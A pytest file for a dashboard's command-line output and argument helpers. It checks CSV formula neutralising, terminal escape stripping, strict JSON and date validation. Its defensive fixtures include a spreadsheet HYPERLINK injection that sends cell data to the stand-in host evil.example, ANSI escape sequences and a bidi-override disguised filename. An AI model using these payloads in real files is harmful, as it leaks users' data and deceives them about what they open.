"""The command line's shared output and argument helpers (dashboard/commands/_output.py, _args.py):
CSV neutralising, safe terminal tables, ISO Z timestamps, strict JSON, the shared filter options,
and a parser that starts without the data libraries."""
from __future__ import annotations

import csv
import io
import json
import math
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest

from dashboard import cli, config, store
from dashboard.commands._output import emit
from dashboard.store.bars import upsert_bars

HOSTILE = pd.DataFrame({
    "title": ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "\x1b[2J\x1b[31mred\x1b[0m alert\r\nnext",
              "plain"],
    "source": ["@Wire", "+Feed", "CNBC"],
    "tags": [["+cmd", "plain"], ["-rm", "@x"], []],
    "size_pct": [-3.78, 1.5, float("nan")],
    "reported": ["-3.78", "+1.5%", "- see note"],
    "published_at": pd.to_datetime(["2025-11-14 13:02:11-05:00", "2025-11-17 04:08:17Z", None], utc=True),
})
TABLE = [("published_at", 20), ("source", 10), ("title", 30), ("tags", 20)]


def emitted(capsys, frame, fmt, **kwargs) -> str:
    kwargs.setdefault("table_columns", TABLE)
    kwargs.setdefault("what", "articles")
    emit(frame, fmt, **kwargs)
    return capsys.readouterr().out


def strict_json(text: str):
    """json.loads that refuses NaN/Infinity, which are not JSON."""
    def refuse(name):
        raise ValueError(f"{name} in JSON output")
    return json.loads(text, parse_constant=refuse)


# --- CSV -------------------------------------------------------------------------------------------

def test_csv_neutralises_formulas_and_joins_lists(capsys):
    rows = list(csv.DictReader(io.StringIO(emitted(capsys, HOSTILE, "csv"))))
    assert list(rows[0]) == list(HOSTILE.columns)
    assert rows[0]["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1, "click")'
    assert [r["source"] for r in rows] == ["'@Wire", "'+Feed", "CNBC"]
    assert [r["tags"] for r in rows] == ["'+cmd;plain", "'-rm;@x", ""]
    # Reported figures are numbers a spreadsheet cannot run: they stay readable.
    assert [r["reported"] for r in rows] == ["-3.78", "+1.5%", "'- see note"]
    assert [r["size_pct"] for r in rows] == ["-3.78", "1.5", ""]
    assert [r["published_at"] for r in rows] == ["2025-11-14T18:02:11Z", "2025-11-17T04:08:17Z", ""]


# --- tables ----------------------------------------------------------------------------------------

def test_table_strips_terminal_escapes_and_truncates(capsys):
    out = emitted(capsys, HOSTILE, "table")
    assert "\x1b" not in out and "\r" not in out
    lines = out.splitlines()
    assert len(lines) == 1 + len(HOSTILE) + 1  # header, one line per row (no embedded newline), count
    assert "[31mred [0m alert next" in lines[2]
    assert lines[1].split()[0] == "2025-11-14T18:02:11Z"
    assert HOSTILE["title"][0][:29] + "…" in lines[1]  # cut to its 30 characters
    assert "+cmd, plain" in lines[1]
    assert lines[-1] == "(3 articles)"


def test_table_drops_bidi_overrides(capsys):
    frame = pd.DataFrame({"title": ["invoice \u202egnp.exe"]})
    out = emitted(capsys, frame, "table", table_columns=[("title", 40)])
    assert "\u202e" not in out and "invoice gnp.exe" in out


def test_empty_table_says_nothing_matched(capsys):
    assert emitted(capsys, HOSTILE.iloc[0:0], "table") == "no articles match\n"
    assert strict_json(emitted(capsys, HOSTILE.iloc[0:0], "json")) == []


# --- JSON ------------------------------------------------------------------------------------------

def test_json_times_are_utc_z_and_missing_values_are_null(capsys):
    frame = pd.DataFrame({
        "ts": pd.to_datetime(["2025-11-14 13:02:11"]).tz_localize("America/New_York"),
        "ts_text": ["2025-11-17T12:08:17+08:00"],
        "naive": [pd.Timestamp("2025-11-14 10:00")],
        "session": [pd.Timestamp("2025-11-14").date()],
        "ret": [np.float64("nan")],
        "ratio": [math.inf],
        "rows": [np.int64(4950)],
        "missing_time": [pd.NaT],
        "tags": [["a", "b"]],
    })
    [record] = strict_json(emitted(capsys, frame, "json", time_columns=("ts_text",)))
    assert record == {
        "ts": "2025-11-14T18:02:11Z",
        "ts_text": "2025-11-17T04:08:17Z",
        "naive": "2025-11-14T10:00:00Z",
        "session": "2025-11-14",
        "ret": None,
        "ratio": None,
        "rows": 4950,
        "missing_time": None,
        "tags": ["a", "b"],
    }


def test_prices_list_json_uses_z_timestamps(tmp_path, capsys):
    db = tmp_path / "bars.duckdb"
    stamps = pd.date_range("2025-11-14 14:30", periods=3, freq="1min", tz="UTC")
    bars = pd.DataFrame({"ts": stamps, "open": 1.0, "high": 1.0, "low": 1.0, "close": 1.0, "volume": 0.0})
    with store.writer(db) as con:
        upsert_bars(con, bars, symbol="BABA", interval="1m", source="synthetic")
    assert cli.main(["prices", "list", "--format", "json", "--db", str(db)]) == 0
    [record] = strict_json(capsys.readouterr().out)
    assert (record["first_bar"], record["last_bar"]) == ("2025-11-14T14:30:00Z", "2025-11-14T14:32:00Z")
    assert (record["rows"], record["label"]) == (3, config.SYNTHETIC_LABEL)


# --- arguments -------------------------------------------------------------------------------------

@pytest.mark.parametrize("command", ["articles", "events", "reactions", "claims"])
def test_listing_commands_share_the_filters(command):
    args = cli.build_parser().parse_args([
        command, "--tag", "Tech War", "--tag", "ai", "--company", "alibaba", "--source", "CNBC",
        "--since", "2025-11-14", "--until", "2025-11-17T12:00:00+08:00", "--format", "json"])
    assert (args.tag, args.company, args.source) == (["Tech War", "ai"], ["alibaba"], ["CNBC"])
    assert (args.since, args.until, args.format) == ("2025-11-14", "2025-11-17T12:00:00+08:00", "json")


def test_kind_is_checked_against_the_event_kinds(capsys):
    from dashboard.ingest import EVENT_KINDS

    assert cli.build_parser().parse_args(["events", "--kind", "Denial"]).kind == ["denial"]
    with pytest.raises(SystemExit) as exit_:
        cli.main(["reactions", "--kind", "rumour"])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert "invalid choice: 'rumour'" in err and all(repr(kind) in err for kind in EVENT_KINDS)


@pytest.mark.parametrize("argv, reason", [
    (["articles", "--since", "not-a-date"], "is not a date"),
    (["articles", "--limit", "0"], "is not a positive whole number"),
    (["export", "chart", "--zone", "Mars/Olympus"], "--zone"),
    (["export", "chart", "--start", "14/11/2025"], "is not a date"),
    (["export", "chart", "--scale", "nan"], "is not a positive number"),
    (["export", "chart", "--interval", "7m"], "invalid choice"),
    # Out of pandas' range: a clean reason, not an OutOfBoundsDatetime traceback.
    (["export", "chart", "--start", "0001-01-01"], "'0001-01-01' is not a date the dashboard can show"),
    (["export", "data", "--end", "9999-12-31"], "'9999-12-31' is not a date the dashboard can show"),
    (["events", "--until", "9999-12-31"], "'9999-12-31' is not a time the dashboard can show"),
])
def test_bad_values_exit_2_with_the_reason(capsys, argv, reason):
    with pytest.raises(SystemExit) as exit_:
        cli.main(argv)
    assert exit_.value.code == 2
    assert reason in capsys.readouterr().err


@pytest.mark.parametrize("argv, default", [
    (["ingest", "--help"], "dashboard.ingest.pipeline:DEFAULT_MAX_BYTES"),
    (["export", "chart", "--help"], "dashboard.export:DEFAULT_WIDTH"),
])
def test_help_states_the_real_defaults(capsys, argv, default):
    """The help spells these out without importing the core; it must still tell the truth."""
    import importlib

    module, name = default.split(":")
    value = getattr(importlib.import_module(module), name)
    with pytest.raises(SystemExit):
        cli.main(argv)
    assert f"(default {value}" in " ".join(capsys.readouterr().out.split())


def test_parser_builds_without_the_data_libraries():
    """`python -m dashboard --help` and argument errors stay quick: handlers import the heavy parts."""
    heavy = ["pandas", "numpy", "plotly", "yfinance", "streamlit", "dashboard.analysis",
             "dashboard.export", "dashboard.screen", "dashboard.ingest", "dashboard.prices.policy"]
    code = ("import sys; from dashboard.cli import build_parser; build_parser()"
            ".parse_args(['export', 'chart', '--zone', 'ny']); "
            f"print([m for m in {heavy!r} if m in sys.modules])")
    done = subprocess.run([sys.executable, "-c", code], cwd=config.PROJECT_ROOT,
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "[]"


def test_a_missing_command_module_is_an_error_not_a_dropped_command(monkeypatch):
    monkeypatch.setattr(cli, "COMMAND_MODULES", [*cli.COMMAND_MODULES, "dashboard.commands.no_such_module"])
    with pytest.raises(ModuleNotFoundError, match="no_such_module"):
        cli.build_parser()
